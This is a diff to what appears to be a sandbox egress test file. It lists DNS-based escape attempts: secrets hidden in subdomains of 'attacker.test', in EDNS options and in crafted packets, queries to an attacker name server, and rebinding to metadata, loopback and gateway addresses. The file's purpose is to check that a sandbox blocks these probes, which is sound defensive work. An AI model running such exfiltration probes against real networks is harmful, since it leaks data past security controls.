@@ -1,13 +1,13 @@
 import { attempts } from './attempt.ts';
 
-const rebound = ['private', 'loopback', 'any', 'metadata', 'host', 'host-public', 'gateway', 'neighbour', 'proxy', 'broadcast', 'multicast', 'alias'];
+const rebound = ['private', 'loopback', 'any', 'metadata', 'host', 'host-public', 'gateway', 'neighbour', 'source', 'proxy', 'platform', 'broadcast', 'multicast', 'alias'];
 
 /** Past the names, by name resolution. */
 export const names = attempts('names', 'names', {
   'a question for another name': "ask(RESOLVER, 'other.test')",
   'a question for another name by TCP': "ask_tcp(RESOLVER, 'other.test')",
   'a secret in a name': "ask(RESOLVER, 'c2VjcmV0.attacker.test', kind=16)",
-  'secrets in many names': "[socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question(f'part{n}.attacker.test'), (RESOLVER, 53)) for n in range(200)]; time.sleep(1)",
+  'secrets in many names': "each(lambda n: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question(f'part{n}.attacker.test'), (RESOLVER, 53)), 200); time.sleep(1)",
   'a name below an exact one': "ask(RESOLVER, 'c2VjcmV0.allowed.test')",
   'a name server of the attacker': "ask(ATTACKER, 'allowed.test')",
   'a name server of the attacker by TCP': "ask_tcp(ATTACKER, 'allowed.test')",
@@ -31,10 +31,10 @@ export const names = attempts('names', 'names', {
   'a secret in an option': "ask(RESOLVER, 'allowed.test', extra=b'\\0' + struct.pack('>HHIH', 41, 4096, 0, 10) + struct.pack('>HH', 65001, 6) + b'secret')",
   'a secret behind the question': "udp(RESOLVER, 53, question('allowed.test') + b'secret of the sandbox')",
   'a record in the question': "udp(RESOLVER, 53, struct.pack('>6H', 7, 0x100, 1, 1, 0, 0) + question('allowed.test')[12:] + b'\\x06secret\\0' + struct.pack('>HHIH', 16, 1, 0, 7) + b'\\x06secret')",
-  'the forwarder itself': "udp('198.19.0.1', 5353, question('other.test'))",
+  'the forwarder itself': "udp(PROXY, 5353, question('other.test'))",
   ...Object.fromEntries(rebound.flatMap(name => [
     [`a name that leads to a protected address: ${name}, HTTP`, `get(WILD, '${name}.wild.test')`],
     [`a name that leads to a protected address: ${name}, HTTPS`, `tls(WILD, '${name}.wild.test')`],
   ])),
-  'a name that changes its address': "[get(WILD, 'rebinding.wild.test') for _ in range(6)]",
+  'a name that changes its address': "each(lambda _: get(WILD, 'rebinding.wild.test'), 6)",
 });
